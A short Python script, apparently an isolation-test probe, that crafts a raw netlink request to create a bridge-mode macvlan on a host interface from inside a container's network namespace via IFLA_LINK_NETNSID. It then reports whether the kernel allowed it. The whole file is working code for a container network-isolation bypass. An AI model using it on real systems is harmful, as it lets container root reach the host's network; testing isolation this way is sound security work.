# rogue-macvlan.py NSID PARENT_IFINDEX NAME MAC: RTM_NEWLINK of a bridge-mode macvlan NAME in the caller's netns on
# the device PARENT_IFINDEX of the netns the caller knows as NSID (IFLA_LINK_NETNSID): what root inside an l2
# context can do with CAP_NET_ADMIN once its netns holds an id for the host's. Prints the kernel's answer.
import os, socket, struct, sys
nsid, parent, name, mac = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3], sys.argv[4]
def attr(t, data):
    l = 4 + len(data); return struct.pack('=HH', l, t) + data + b'\0' * ((4 - l % 4) % 4)
info = attr(1, b'macvlan\0') + attr(2, attr(1, struct.pack('=I', 4)))  # IFLA_INFO_KIND, IFLA_INFO_DATA{MODE=bridge}
body = (struct.pack('=BBHiII', 0, 0, 0, 0, 0, 0) + attr(3, name.encode() + b'\0') + attr(5, struct.pack('=I', parent))
        + attr(37, struct.pack('=i', nsid)) + attr(1, bytes.fromhex(mac.replace(':', ''))) + attr(18, info))
hdr = struct.pack('=IHHII', 16 + len(body), 16, 0x1 | 0x4 | 0x400 | 0x200, 1, 0)
s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0); s.bind((0, 0)); s.send(hdr + body)
err = struct.unpack('=i', s.recv(4096)[16:20])[0]
print("OK" if err == 0 else os.strerror(-err))
sys.exit(0 if err == 0 else 1)
